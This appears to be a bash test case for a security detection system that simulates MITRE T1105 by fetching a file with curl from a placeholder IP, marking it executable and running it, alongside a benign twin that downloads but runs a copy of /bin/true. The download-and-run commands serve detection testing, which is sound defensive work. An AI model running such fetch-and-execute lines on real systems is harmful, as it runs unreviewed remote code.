#!/bin/bash
# What a download tool brought is made executable and run.
#: title: Downloaded program run
#: technique: T1105
#: needs: exec, file_attribute
#: rules: downloaded_program_ran
#: twin: a download is kept, and a program that was made here is run
. "$DRIVERS/lib.sh"

fetched() {
	site
	curl -s -o tool http://203.0.113.7:8080/tool
	chmod +x tool
	./tool
}

kept() {
	site
	curl -s -o data http://203.0.113.7:8080/tool
	cp /bin/true made
	./made
}

attack() {
	in_own_network fetched
	did "$WORK/tool"
}

twin() {
	in_own_network kept
	did "$WORK/data" "$WORK/made"
}

"$1"
